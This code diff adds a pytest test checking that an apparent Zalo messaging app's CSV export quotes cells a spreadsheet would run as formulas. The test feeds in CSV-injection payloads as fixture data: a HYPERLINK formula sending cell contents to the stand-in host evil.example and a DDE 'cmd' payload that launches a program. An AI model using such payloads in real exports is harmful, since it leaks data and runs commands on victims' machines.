@@ -483,3 +483,18 @@ def test_the_groups_command_creates_the_suggested_groups():
     assert {"view_full_phone", "change_binding", "add_binding", "delete_binding",
             "connect_zaloaccount"} <= managers
     assert operators <= managers
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, staff, start):
+    # An order reference comes from the shop's customers, an error from Zalo: a cell starting
+    # with one of these is a formula to Excel/LibreOffice (CSV injection) unless quoted.
+    staff("view_message")
+    evil = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+    MessageFactory(order_ref=evil, status="failed", error_code=-124,
+                   error_category="recipient", error_message=f"{start}cmd|' /C calc'!A0")
+    header, row = read_csv(client.get(EXPORT))
+    assert row[header.index("order_ref")] == "'" + evil
+    assert row[header.index("reason")] == f"'{start}cmd|' /C calc'!A0"
+    # Numbers stay numbers: a Zalo error code is negative and must not be quoted.
+    assert row[header.index("error_code")] == "-124"
